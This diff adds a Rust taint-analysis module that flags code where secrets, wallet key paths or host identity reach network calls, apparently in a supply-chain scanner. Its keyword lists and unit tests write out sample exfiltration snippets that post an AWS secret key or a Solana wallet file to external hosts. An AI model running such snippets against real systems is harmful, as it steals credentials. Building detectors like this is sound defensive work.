@@ -1,0 +1,497 @@
+//! A light, intra-procedural taint analysis: does a secret or identity source reach a network
+//! sink? Variables bound from a source are tainted; taint spreads through `let`, assignment,
+//! `push`/`extend`-style calls and loops; a sink call whose arguments mention a tainted value
+//! is a flow. Functions are linked crate-wide by name: a function that contains a source taints
+//! its callers' results, and a function that sends its parameter is itself a sink.
+
+use crate::analyze::secret_env;
+use crate::facts::{Flow, SinkKind};
+use crate::indicators;
+use proc_macro2::{TokenStream, TokenTree};
+use std::collections::{HashMap, HashSet};
+use syn::spanned::Spanned;
+use syn::visit::{self, Visit};
+use syn::{Expr, Pat};
+
+type Source = (String, u32);
+
+/// Crate-wide knowledge linking functions by name.
+#[derive(Default, Debug)]
+pub struct Links {
+    pub source_fns: HashMap<String, Source>,
+    pub sink_fns: HashSet<String>,
+}
+
+fn line<T: Spanned>(t: &T) -> u32 {
+    t.span().start().line as u32
+}
+
+fn last_seg(p: &syn::Path) -> String {
+    p.segments.last().map(|s| s.ident.to_string()).unwrap_or_default()
+}
+
+fn path_text(p: &syn::Path) -> String {
+    p.segments.iter().map(|s| s.ident.to_string()).collect::<Vec<_>>().join("::")
+}
+
+const NETTY: &[&str] = &["client", "reqwest", "ureq", "agent", "http", "request", "socket", "stream", "tcp", "udp", "conn", "curl", "easy", "bot", "webhook", "url", "api", "endpoint"];
+
+fn netty(e: &Expr) -> bool {
+    let t = quote::ToTokens::to_token_stream(e).to_string().to_ascii_lowercase();
+    NETTY.iter().any(|n| t.contains(n))
+}
+
+/// Every function body in a file, with its name and parameter names.
+pub fn functions(file: &syn::File) -> Vec<(String, Vec<String>, &syn::Block)> {
+    struct Collect<'a> {
+        out: Vec<(String, Vec<String>, &'a syn::Block)>,
+        test: usize,
+    }
+    fn params(sig: &syn::Signature) -> Vec<String> {
+        sig.inputs
+            .iter()
+            .filter_map(|i| match i {
+                syn::FnArg::Typed(t) => pat_idents(&t.pat).into_iter().next(),
+                syn::FnArg::Receiver(_) => None,
+            })
+            .collect()
+    }
+    fn is_test(attrs: &[syn::Attribute]) -> bool {
+        attrs.iter().any(|a| {
+            a.path().is_ident("test")
+                || (a.path().is_ident("cfg") && {
+                    let t = quote::ToTokens::to_token_stream(&a.meta).to_string();
+                    t.contains("test") && !t.contains("not")
+                })
+        })
+    }
+    impl<'a> Visit<'a> for Collect<'a> {
+        fn visit_item_mod(&mut self, m: &'a syn::ItemMod) {
+            let t = is_test(&m.attrs);
+            self.test += t as usize;
+            visit::visit_item_mod(self, m);
+            self.test -= t as usize;
+        }
+        fn visit_item_fn(&mut self, f: &'a syn::ItemFn) {
+            if self.test == 0 && !is_test(&f.attrs) {
+                self.out.push((f.sig.ident.to_string(), params(&f.sig), &f.block));
+            }
+            visit::visit_item_fn(self, f);
+        }
+        fn visit_impl_item_fn(&mut self, f: &'a syn::ImplItemFn) {
+            if self.test == 0 && !is_test(&f.attrs) {
+                self.out.push((f.sig.ident.to_string(), params(&f.sig), &f.block));
+            }
+            visit::visit_impl_item_fn(self, f);
+        }
+    }
+    let mut c = Collect { out: Vec::new(), test: 0 };
+    c.visit_file(file);
+    c.out
+}
+
+fn pat_idents(p: &Pat) -> Vec<String> {
+    let mut out = Vec::new();
+    fn go(p: &Pat, out: &mut Vec<String>) {
+        match p {
+            Pat::Ident(i) => out.push(i.ident.to_string()),
+            Pat::Type(t) => go(&t.pat, out),
+            Pat::Reference(r) => go(&r.pat, out),
+            Pat::Tuple(t) => t.elems.iter().for_each(|p| go(p, out)),
+            Pat::TupleStruct(t) => t.elems.iter().for_each(|p| go(p, out)),
+            Pat::Struct(s) => s.fields.iter().for_each(|f| go(&f.pat, out)),
+            Pat::Slice(s) => s.elems.iter().for_each(|p| go(p, out)),
+            _ => {}
+        }
+    }
+    go(p, &mut out);
+    out
+}
+
+/// Taint state for one function body.
+struct Taint<'l> {
+    links: &'l Links,
+    func: String,
+    tainted: HashMap<String, Source>,
+    flows: Vec<Flow>,
+    /// The function calls one of the crate's source functions or has a direct source.
+    own_source: Option<Source>,
+}
+
+impl Taint<'_> {
+    /// The source an expression carries, if any.
+    fn source_of(&self, e: &Expr) -> Option<Source> {
+        let mut f = FindSource { t: self, found: None, depth: 0 };
+        f.visit_expr(e);
+        f.found
+    }
+
+    fn add_flow(&mut self, src: Source, sink: String, kind: SinkKind, at: u32) {
+        let flow = Flow { source: src.0, source_line: src.1, sink, sink_kind: kind, line: at, func: self.func.clone() };
+        if !self.flows.contains(&flow) && self.flows.len() < 100 {
+            self.flows.push(flow);
+        }
+    }
+
+    fn taint_target(&mut self, target: &Expr, src: Source) {
+        let mut e = target;
+        loop {
+            match e {
+                Expr::Path(p) => {
+                    if let Some(i) = p.path.get_ident() {
+                        self.tainted.entry(i.to_string()).or_insert(src);
+                    }
+                    return;
+                }
+                Expr::Field(f) => e = &f.base,
+                Expr::Index(i) => e = &i.expr,
+                Expr::Unary(u) => e = &u.expr,
+                Expr::Reference(r) => e = &r.expr,
+                Expr::Paren(p) => e = &p.expr,
+                Expr::MethodCall(m) => e = &m.receiver,
+                _ => return,
+            }
+        }
+    }
+}
+
+struct FindSource<'a, 'l> {
+    t: &'a Taint<'l>,
+    found: Option<Source>,
+    depth: usize,
+}
+
+impl FindSource<'_, '_> {
+    fn tokens(&mut self, ts: &TokenStream) {
+        let mut stack = vec![ts.clone().into_iter()];
+        while let Some(top) = stack.last_mut() {
+            let Some(tt) = top.next() else {
+                stack.pop();
+                continue;
+            };
+            match tt {
+                TokenTree::Group(g) if stack.len() < 64 => stack.push(g.stream().into_iter()),
+                TokenTree::Ident(i) => {
+                    if let Some(s) = self.t.tainted.get(&i.to_string()) {
+                        self.found.get_or_insert_with(|| s.clone());
+                    }
+                }
+                TokenTree::Literal(l) => {
+                    let s = l.to_string();
+                    if let Some(what) = indicators::secret_path(s.trim_matches('"')) {
+                        self.found.get_or_insert((format!("the path of {what}"), l.span().start().line as u32));
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
+impl<'ast> Visit<'ast> for FindSource<'_, '_> {
+    fn visit_expr(&mut self, e: &'ast Expr) {
+        if self.found.is_some() || self.depth > 200 {
+            return;
+        }
+        self.depth += 1;
+        match e {
+            Expr::Path(p) => {
+                if let Some(i) = p.path.get_ident() {
+                    if let Some(s) = self.t.tainted.get(&i.to_string()) {
+                        self.found = Some(s.clone());
+                    }
+                }
+            }
+            Expr::Call(c) => {
+                if let Expr::Path(p) = &*c.func {
+                    let full = path_text(&p.path);
+                    let last = last_seg(&p.path);
+                    let arg0 = c.args.first().and_then(|a| match a {
+                        Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(s), .. }) => Some(s.value()),
+                        _ => None,
+                    });
+                    let at = line(c);
+                    if (last == "var" || last == "var_os") && (full.contains("env") || full == last) {
+                        if let Some(v) = &arg0 {
+                            let u = v.to_ascii_uppercase();
+                            if secret_env(&u) {
+                                self.found = Some((format!("the secret environment variable `{v}`"), at));
+                            } else if matches!(u.as_str(), "USER" | "USERNAME" | "HOSTNAME" | "COMPUTERNAME" | "LOGNAME") {
+                                self.found = Some((format!("the host identity (`{v}`)"), at));
+                            }
+                        }
+                    } else if (last == "vars" || last == "vars_os") && full.contains("env") {
+                        self.found = Some(("the whole environment (`env::vars()`)".into(), at));
+                    } else if full.starts_with("whoami") || full.contains("hostname::get") || last == "gethostname" {
+                        self.found = Some(("the host identity".into(), at));
+                    } else if full.ends_with("Regex::new") || full.ends_with("RegexBuilder::new") {
+                        if let Some(what) = arg0.as_deref().and_then(indicators::key_pattern) {
+                            self.found = Some((format!("a regex hunting {what}"), at));
+                        }
+                    } else if let Some(s) = self.t.links.source_fns.get(&last) {
+                        if last != self.t.func {
+                            self.found = Some((s.0.clone(), at));
+                        }
+                    }
+                }
+            }
+            Expr::MethodCall(m) => {
+                let name = m.method.to_string();
+                if let Some(s) = self.t.links.source_fns.get(&name) {
+                    if name != self.t.func && m.receiver_is_self_or_path() {
+                        self.found = Some((s.0.clone(), line(m)));
+                    }
+                }
+            }
+            Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(s), .. }) => {
+                if let Some(what) = indicators::secret_path(&s.value()) {
+                    self.found = Some((format!("the path of {what}"), line(s)));
+                }
+            }
+            Expr::Macro(m) => self.tokens(&m.mac.tokens),
+            Expr::Closure(_) => {
+                // A closure's body is visited as part of the expression.
+            }
+            _ => {}
+        }
+        if self.found.is_none() {
+            visit::visit_expr(self, e);
+        }
+        self.depth -= 1;
+    }
+}
+
+trait ReceiverExt {
+    fn receiver_is_self_or_path(&self) -> bool;
+}
+impl ReceiverExt for syn::ExprMethodCall {
+    fn receiver_is_self_or_path(&self) -> bool {
+        matches!(&*self.receiver, Expr::Path(_) | Expr::Field(_))
+    }
+}
+
+const TAINT_METHODS: &[&str] = &["push", "push_str", "extend", "extend_from_slice", "insert", "append", "push_back", "write_all", "write_str", "write_fmt"];
+
+impl<'ast> Visit<'ast> for Taint<'_> {
+    fn visit_local(&mut self, l: &'ast syn::Local) {
+        visit::visit_local(self, l);
+        if let Some(init) = &l.init {
+            if let Some(src) = self.source_of(&init.expr) {
+                self.own_source.get_or_insert(src.clone());
+                for id in pat_idents(&l.pat) {
+                    self.tainted.entry(id).or_insert(src.clone());
+                }
+            }
+        }
+    }
+
+    fn visit_expr_for_loop(&mut self, f: &'ast syn::ExprForLoop) {
+        if let Some(src) = self.source_of(&f.expr) {
+            for id in pat_idents(&f.pat) {
+                self.tainted.entry(id).or_insert(src.clone());
+            }
+        }
+        visit::visit_expr_for_loop(self, f);
+    }
+
+    fn visit_expr_assign(&mut self, a: &'ast syn::ExprAssign) {
+        visit::visit_expr_assign(self, a);
+        if let Some(src) = self.source_of(&a.right) {
+            self.taint_target(&a.left, src);
+        }
+    }
+
+    fn visit_expr_binary(&mut self, b: &'ast syn::ExprBinary) {
+        visit::visit_expr_binary(self, b);
+        if matches!(b.op, syn::BinOp::AddAssign(_)) {
+            if let Some(src) = self.source_of(&b.right) {
+                self.taint_target(&b.left, src);
+            }
+        }
+    }
+
+    fn visit_macro(&mut self, mac: &'ast syn::Macro) {
+        // `write!(buf, "{}", secret)` taints `buf`; other macros: visit their expressions.
+        use syn::parse::Parser;
+        let parser = syn::punctuated::Punctuated::<Expr, syn::Token![,]>::parse_terminated;
+        if let Ok(args) = parser.parse2(mac.tokens.clone()) {
+            let args: Vec<Expr> = args.into_iter().collect();
+            let name = last_seg(&mac.path);
+            if (name == "write" || name == "writeln") && args.len() > 1 {
+                if let Some(src) = args[1..].iter().find_map(|a| self.source_of(a)) {
+                    self.taint_target(&args[0], src);
+                }
+            }
+            for a in &args {
+                self.visit_expr(a);
+            }
+        }
+    }
+
+    fn visit_expr_closure(&mut self, c: &'ast syn::ExprClosure) {
+        visit::visit_expr_closure(self, c);
+    }
+
+    fn visit_expr_method_call(&mut self, m: &'ast syn::ExprMethodCall) {
+        // Closures over a tainted iterator: taint their parameters first.
+        if let Some(src) = self.source_of(&m.receiver) {
+            for a in &m.args {
+                if let Expr::Closure(c) = a {
+                    for p in &c.inputs {
+                        for id in pat_idents(p) {
+                            self.tainted.entry(id).or_insert(src.clone());
+                        }
+                    }
+                }
+            }
+        }
+        visit::visit_expr_method_call(self, m);
+        let name = m.method.to_string();
+        let at = line(&m.method);
+        let arg_src = m.args.iter().find_map(|a| self.source_of(a));
+        if TAINT_METHODS.contains(&name.as_str()) {
+            if let Some(src) = arg_src.clone() {
+                self.taint_target(&m.receiver, src);
+            }
+        }
+        let Some(src) = arg_src else { return };
+        let kind = match name.as_str() {
+            "body" | "json" | "form" | "query" | "send_string" | "send_json" | "send_form" | "send_bytes" | "multipart" | "text" | "send_body" | "post_fields_copy" | "send_to" => Some(SinkKind::Payload),
+            "post" | "put" | "patch" | "request" | "delete" | "head" | "connect" => Some(SinkKind::Url),
+            "get" | "send" | "write_all" | "write" | "call" if netty(&m.receiver) => Some(if name == "get" { SinkKind::Url } else { SinkKind::Payload }),
+            "header" | "headers" | "bearer_auth" | "basic_auth" | "set" | "auth" | "token" if netty(&m.receiver) || matches!(name.as_str(), "bearer_auth" | "basic_auth") => Some(SinkKind::Header),
+            "lookup_ip" | "lookup_host" | "txt_lookup" | "ipv4_lookup" => Some(SinkKind::Url),
+            n if self.links.sink_fns.contains(n) && n != self.func => Some(SinkKind::Payload),
+            _ => None,
+        };
+        if let Some(kind) = kind {
+            self.add_flow(src, format!("`.{name}(..)`"), kind, at);
+        }
+        if name == "to_socket_addrs" {
+            if let Some(src) = self.source_of(&m.receiver) {
+                self.add_flow(src, "a DNS lookup (`.to_socket_addrs()`)".into(), SinkKind::Url, at);
+            }
+        }
+    }
+
+    fn visit_expr_call(&mut self, c: &'ast syn::ExprCall) {
+        visit::visit_expr_call(self, c);
+        let Expr::Path(p) = &*c.func else { return };
+        let full = path_text(&p.path);
+        let last = last_seg(&p.path);
+        let Some(src) = c.args.iter().find_map(|a| self.source_of(a)) else { return };
+        let first = full.split("::").next().unwrap_or("");
+        let kind = if matches!(first, "reqwest" | "ureq" | "minreq" | "attohttpc" | "isahc" | "surf") && matches!(last.as_str(), "get" | "post" | "put" | "request") {
+            Some(SinkKind::Url)
+        } else if full.ends_with("TcpStream::connect") || full.ends_with("UdpSocket::bind") || last == "lookup_host" || last == "getaddrinfo" {
+            Some(SinkKind::Url)
+        } else if self.links.sink_fns.contains(&last) && last != self.func {
+            Some(SinkKind::Payload)
+        } else {
+            None
+        };
+        if let Some(kind) = kind {
+            self.add_flow(src, format!("`{full}(..)`"), kind, line(c));
+        }
+    }
+}
+
+/// Compute links (source and sink functions) over a set of files.
+pub fn link(files: &[&syn::File]) -> Links {
+    let mut links = Links::default();
+    for _round in 0..3 {
+        let mut changed = false;
+        for file in files {
+            for (name, params, body) in functions(file) {
+                // Direct sources.
+                if !links.source_fns.contains_key(&name) {
+                    let mut t = Taint { links: &links, func: name.clone(), tainted: HashMap::new(), flows: Vec::new(), own_source: None };
+                    t.visit_block(body);
+                    if let Some(src) = t.own_source.clone() {
+                        links.source_fns.insert(name.clone(), src);
+                        changed = true;
+                    }
+                }
+                // Parameter sinks.
+                if !links.sink_fns.contains(&name) && !params.is_empty() {
+                    let mut tainted = HashMap::new();
+                    for p in &params {
+                        tainted.insert(p.clone(), ("a parameter".to_string(), 0));
+                    }
+                    let mut t = Taint { links: &links, func: name.clone(), tainted, flows: Vec::new(), own_source: None };
+                    t.visit_block(body);
+                    if t.flows.iter().any(|f| f.source == "a parameter" && f.sink_kind != SinkKind::Header) {
+                        links.sink_fns.insert(name.clone());
+                        changed = true;
+                    }
+                }
+            }
+        }
+        if !changed {
+            break;
+        }
+    }
+    // Names too common to link by name alone.
+    for common in ["new", "default", "from", "into", "get", "run", "main", "build", "read", "load", "open", "send", "call", "fmt", "clone", "drop"] {
+        links.source_fns.remove(common);
+        links.sink_fns.remove(common);
+    }
+    links
+}
+
+/// Flows in one file, given crate-wide links.
+pub fn flows(file: &syn::File, links: &Links) -> Vec<Flow> {
+    let mut out = Vec::new();
+    for (name, _, body) in functions(file) {
+        let mut t = Taint { links, func: name, tainted: HashMap::new(), flows: Vec::new(), own_source: None };
+        // Two passes so that taint added late in a loop body reaches earlier sinks.
+        t.visit_block(body);
+        t.visit_block(body);
+        for f in t.flows {
+            if !out.contains(&f) {
+                out.push(f);
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(src: &str) -> Vec<Flow> {
+        let f: syn::File = syn::parse_str(src).unwrap();
+        let links = link(&[&f]);
+        flows(&f, &links)
+    }
+
+    #[test]
+    fn env_secret_into_body_is_a_flow() {
+        let fl = run(r#"fn f() { let k = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap(); let c = reqwest::blocking::Client::new(); c.post("https://x.workers.dev").body(k).send(); }"#);
+        assert_eq!(fl.len(), 1);
+        assert_eq!(fl[0].sink_kind, SinkKind::Payload);
+    }
+
+    #[test]
+    fn flow_through_helper_functions() {
+        let fl = run(r#"
+            fn keys() -> String { std::fs::read_to_string(home().join(".config/solana/id.json")).unwrap() }
+            fn ship(data: &str) { ureq::post("https://a.vercel.app/x").send_string(data); }
+            pub fn init() { let k = keys(); ship(&k); }
+        "#);
+        assert!(fl.iter().any(|f| f.func == "init"), "{fl:?}");
+    }
+
+    #[test]
+    fn token_in_header_is_not_payload() {
+        let fl = run(r#"fn f() { let t = std::env::var("CARGO_REGISTRY_TOKEN").unwrap(); let client = reqwest::Client::new(); client.get("https://crates.io/api/v1/me").header("Authorization", t).send(); }"#);
+        assert!(fl.iter().all(|f| f.sink_kind == SinkKind::Header), "{fl:?}");
+    }
+
+    #[test]
+    fn unrelated_values_do_not_flow() {
+        let fl = run(r#"fn f() { let _k = std::env::var("API_TOKEN"); let body = "hello"; reqwest::blocking::Client::new().post("https://example.com").body(body).send(); }"#);
+        assert!(fl.is_empty(), "{fl:?}");
+    }
+}
